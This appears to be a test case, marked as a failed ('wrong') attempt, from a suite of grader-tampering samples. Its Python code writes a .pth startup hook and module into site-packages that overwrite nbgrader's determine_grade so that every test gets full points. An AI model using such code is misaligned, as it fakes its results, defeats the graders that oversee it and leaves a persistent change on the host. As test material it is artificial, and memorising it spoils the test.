# /// case
# tries = "A module that Python imports at every start is left in site-packages: from the next process on, all tests pass."
# state = "wrong"
# nbgrader = "2 files written elsewhere"
# ///

# %% top
import site
import sysconfig
from pathlib import Path

CODE = """
try:
    import nbgrader.utils
    nbgrader.utils.determine_grade = lambda cell, *rest: (cell.metadata.nbgrader["points"],) * 2
except ImportError:
    pass
"""
for folder in {
    sysconfig.get_path("purelib"),
    sysconfig.get_path("platlib"),
    site.getusersitepackages(),
    *site.getsitepackages(),
}:
    try:
        Path(folder).mkdir(parents=True, exist_ok=True)
        Path(folder, "pwned_code.py").write_text(CODE)
        Path(folder, "pwned.pth").write_text("import pwned_code\n")
    except OSError as error:
        print(error)
